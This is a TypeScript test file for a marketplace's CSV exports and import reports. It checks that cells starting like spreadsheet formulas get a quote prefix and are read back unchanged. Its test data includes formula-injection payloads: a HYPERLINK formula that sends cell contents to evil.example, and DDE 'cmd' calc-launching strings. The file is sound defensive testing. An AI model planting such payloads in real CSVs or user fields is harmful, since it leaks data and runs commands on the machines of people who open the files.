import type { ImportJob } from '@souk/contracts';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { multipart } from '../modules/media/media.test-support.js';
import { listingFixtures } from '../test-support/listing-fixtures.js';
import { createTestApp, type TestApp, type TestUser } from '../test-support/test-app.js';
import { waitFor } from '../test-support/wait.js';
import { csvLine, readCsvText, safeCsvText } from './csv.js';

/*
 * Issue 16 #10: CSV formula injection. A seller's text reached an admin's spreadsheet as a
 * formula (`=HYPERLINK(...)`). Every CSV Souk writes defuses it; imports read it back.
 */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

describe('csv cells', () => {
  it('prefix text that a spreadsheet would run, and only that', () => {
    for (const text of FORMULAS) expect(safeCsvText(text)).toBe(`'${text}`);
    for (const text of ['Toyota Corolla', '5-door', "'quoted", 'a=b', '', ' =1 (a space first)'])
      expect(safeCsvText(text)).toBe(text);
    // Numbers are numbers: a negative one is no formula and stays numeric for the spreadsheet.
    expect(csvLine([-5, -79.86, 0, 'x'])).toBe('-5,-79.86,0,x\n');
    // Text that looks like a number is still text, and is prefixed.
    expect(csvLine(['-5'])).toBe("'-5\n");
    expect(csvLine([null, undefined, '=1'])).toBe(",,'=1\n");
  });

  it('read back exactly what was written, quotes included', () => {
    for (const text of [...FORMULAS, "'=1", "''+x", "'plain", 'plain', "'", '']) {
      expect(readCsvText(safeCsvText(text))).toBe(text);
    }
  });
});

let t: TestApp;
let seller: TestUser;
let admin: TestUser;

beforeAll(async () => {
  t = await createTestApp({ work: true });
  [seller, admin] = await Promise.all([t.signUp(), t.signUp({ role: 'admin' })]);
});
afterAll(() => t?.close());

/** Every cell of a CSV body that is text (not a number) and starts like a formula. */
function formulaCells(body: string): string[] {
  const rows: string[][] = parse(body, { relax_column_count: true });
  return rows.flat().filter((cell) => DANGEROUS_START.test(cell) && Number.isNaN(Number(cell)));
}

let uploads = 0;
async function importFile(who: TestUser, content: string, query = 'dryRun=true'): Promise<ImportJob> {
  const body = multipart([
    { data: Buffer.from(content), filename: 'stock.csv', type: 'text/csv', field: 'file' },
  ]);
  const response = await t.app.inject({
    method: 'POST',
    url: `/api/v1/imports?${query}`,
    headers: { ...who.headers, 'content-type': body.contentType },
    payload: body.payload,
    remoteAddress: `10.7.0.${++uploads}`,
  });
  expect(response.statusCode, response.body).toBe(202);
  const id = (response.json() as ImportJob).id;
  return waitFor(async () => {
    const job: ImportJob = (
      await t.app.inject({ method: 'GET', url: `/api/v1/imports/${id}`, headers: who.headers })
    ).json();
    return job.status === 'completed' || job.status === 'failed' ? job : null;
  }, 60_000);
}

describe('CSV files Souk writes', () => {
  it('the listings export defuses formulas in titles, features and attributes, and imports back unchanged', async () => {
    const f = await listingFixtures(t);
    const titles = [
      '=HYPERLINK("http://evil.example","Win")',
      '+94 77 123 4567 call now',
      '-20% Toyota Aqua',
      '@Dealer Corolla',
    ];
    for (const title of titles) {
      const draft = await f.draft(seller, { title });
      const changed = await f.call('PATCH', `/listings/${draft.id}`, seller, {
        features: ['=1+1', 'Sunroof'],
        description: '=cmd|" /C calc"!A0 and a long enough description',
      });
      expect(changed.statusCode, changed.body).toBe(200);
    }
    for (const who of [seller, admin]) {
      const exported = await t.app.inject({
        method: 'GET',
        url: `/api/v1/listings/export?format=csv${who === admin ? `&sellerId=${seller.userId}` : ''}`,
        headers: who.headers,
      });
      expect(exported.statusCode).toBe(200);
      expect(exported.headers['content-type']).toMatch(/^text\/csv/);
      expect(formulaCells(exported.body)).toEqual([]);
      const rows: Record<string, string>[] = parse(exported.body, { columns: true });
      expect(rows.map((row) => row.title).sort()).toEqual(titles.map((title) => `'${title}`).sort());
      expect(rows.every((row) => row.features === "'=1+1|Sunroof")).toBe(true);
    }
    // The export imports back to the same listings: the prefix is read off again.
    const exported = await t.app.inject({
      method: 'GET',
      url: '/api/v1/listings/export?format=csv',
      headers: seller.headers,
    });
    const job = await importFile(seller, exported.body);
    expect(job.status, JSON.stringify(job)).toBe('completed');
    expect(job.progress).toMatchObject({ unchanged: titles.length, updated: 0, created: 0, failed: 0 });
  });

  it('the import failure report defuses formulas in external ids and reasons', async () => {
    const header =
      'external_id,category,title,description,price,currency,price_type,condition,quantity,city,status';
    const lines = [
      '"=HYPERLINK(""http://evil.example"",""x"")",cars,A car,Nice car for sale,100,LKR,fixed,used,1,colombo,active',
      '@SUM(1+1),=not-a-category,Another car,Nice car for sale,100,LKR,fixed,used,1,colombo,active',
      '+cmd,cars,Third car,Nice car for sale,100,LKR,fixed,used,1,=cmd|calc!A0,active',
    ];
    const job = await importFile(seller, `${[header, ...lines].join('\n')}\n`);
    expect(job.status, JSON.stringify(job)).toBe('completed');
    expect(job.progress.failed).toBe(3);
    const report = await t.app.inject({
      method: 'GET',
      url: `/api/v1/imports/${job.id}/report.csv`,
      headers: seller.headers,
    });
    expect(report.statusCode).toBe(200);
    expect(report.headers['content-type']).toMatch(/^text\/csv/);
    const rows: string[][] = parse(report.body);
    expect(rows.length).toBeGreaterThan(3);
    expect(formulaCells(report.body)).toEqual([]);
    const externalIds = new Set(rows.slice(1).map((row) => row[1]));
    expect(externalIds).toEqual(new Set(['\'=HYPERLINK("http://evil.example","x")', "'@SUM(1+1)", "'+cmd"]));
    // The line number column is a number, written as one.
    expect(rows.slice(1).every((row) => /^\d+$/.test(row[0] as string))).toBe(true);
  });
});
